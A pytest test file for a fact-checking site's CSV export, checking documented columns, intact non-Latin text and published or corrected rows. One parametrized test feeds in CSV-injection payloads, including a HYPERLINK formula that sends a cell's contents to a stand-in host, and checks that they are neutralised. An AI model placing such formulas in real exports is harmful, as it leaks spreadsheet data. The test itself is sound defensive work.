"""The CSV export: documented columns, spreadsheet-safe cells, text intact."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from claims.models import Claim
from reviews.exports import csv_rows
from tests.factories import ClaimantFactory, ClaimFactory
from tests.reviews.exports.desk import correct, export, publish

pytestmark = pytest.mark.django_db

COLUMNS_DOC = Path(csv_rows.__file__).with_name("COLUMNS.md")


def parse(text: str) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert header == list(csv_rows.COLUMNS)
    return [dict(zip(header, row, strict=True)) for row in reader]


def test_columns_are_documented_in_order() -> None:
    documented = [
        line.split("|")[1].strip().strip("`")
        for line in COLUMNS_DOC.read_text(encoding="utf-8").splitlines()
        if line.startswith("| `")
    ]
    assert documented == list(csv_rows.COLUMNS)
    for column in csv_rows.COLUMNS:
        assert f"    {column} " in csv_rows.__doc__  # type: ignore[operator]


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tled", "\rled"],
)
def test_formula_cells_are_neutralised(hostile: str) -> None:
    claim = ClaimFactory(
        text=hostile,
        appeared_outlet=hostile,
        claimant=ClaimantFactory(name=hostile, description=hostile),
        tags=[hostile.strip() or "x"],
    )
    row = parse(export("csv"))[0]
    assert row["id"] == str(claim.pk)
    for column in ("text", "appeared_outlet", "claimant", "claimant_description"):
        assert row[column] == "'" + hostile
    if hostile.strip()[0] in "=+-@":
        assert row["tags"].startswith("'")


def test_safe_cells_are_left_alone_and_non_latin_text_is_intact() -> None:
    texts = [
        "Душанбе: более 20 проектов «умного города».",
        "深圳已经建成了300个智慧城市项目。",
        "تخطط دبي لخفض الانبعاثات بنسبة 40 في المئة.",
        'Quotes "inside", commas, and a\nline break',
        "1 + 1 = 2 and -3 are fine mid-cell; 'quoted' too",
    ]
    for text in texts:
        ClaimFactory(text=text, language="en", claimant=None, appeared_outlet="")
    raw = export("csv")
    raw.encode("utf-8")  # the file is UTF-8 text
    assert not raw.startswith("\ufeff")
    rows = parse(raw)
    assert [row["text"] for row in rows] == texts
    assert all(row["claimant"] == "" and row["rating"] == "" for row in rows)


def test_published_and_corrected_rows(
    reviewer: Any, editor: Any, editor2: Any, settings: Any
) -> None:
    first = publish(reviewer, editor, tags=["energy", "cities"])
    corrected = correct(
        publish(reviewer, editor, rating="Misleading"),
        drafter=reviewer,
        opener=editor,
        approver=editor2,
        rating="Half true",
    )
    ClaimFactory(status=Claim.Status.NEW)
    rows = {int(row["id"]): row for row in parse(export("csv"))}
    assert len(rows) == 3
    plain = rows[first.claim_id]
    assert plain["status"] == "published"
    assert plain["tags"] == "cities;energy"
    assert (
        plain["rating"],
        plain["rating_value"],
        plain["best_rating"],
        plain["worst_rating"],
    ) == (
        "False",
        "1",
        "5",
        "1",
    )
    assert plain["corrected"] == "no"
    assert plain["summary"] == "Tajikistan runs more than 20 smart-city projects"
    assert plain["public_url"] == (
        f"{settings.SITE_URL}/fact-checks/{first.claim_id}"
        "-tajikistan-runs-more-than-20-smart-city-projects/"
    )
    assert plain["evidence_count"] == "1"
    assert plain["assignee"] == "rita"
    assert plain["appeared_on"] == "2024-05-17"
    assert plain["created_at"].endswith("+00:00")
    fixed = rows[corrected.claim_id]
    assert (fixed["rating"], fixed["rating_value"], fixed["corrected"]) == ("Half true", "3", "yes")
    assert fixed["conclusion"] == "The register lists 12 projects; 8 more are planned."
    unpublished = next(
        row for key, row in rows.items() if key not in (first.claim_id, corrected.claim_id)
    )
    assert unpublished["corrected"] == unpublished["public_url"] == unpublished["rating"] == ""
    assert unpublished["evidence_count"] == "0"
